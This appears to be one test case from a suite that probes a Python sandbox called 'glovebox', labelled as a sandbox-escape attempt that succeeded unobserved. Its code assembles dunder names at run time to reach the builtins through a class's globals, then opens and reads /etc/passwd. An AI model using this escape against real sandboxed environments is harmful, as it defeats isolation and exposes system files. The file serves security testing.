# id: L37
# family: language
# goal: walk special attributes by names that are put together at run time
# finding: PY102 PY119 PY120
# outcome: COMPLETED
# observed_by: none
# control: got-in

from glovebox import Strategy


import functools


def attack(ctx, bar):
    names = ["__in" + "it__", "__glo" + "bals__"]
    found = functools.reduce(getattr, names, Strategy)["__builtins__"]
    return (found["open"] if isinstance(found, dict) else found.open)("/etc/passwd").read(20)


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
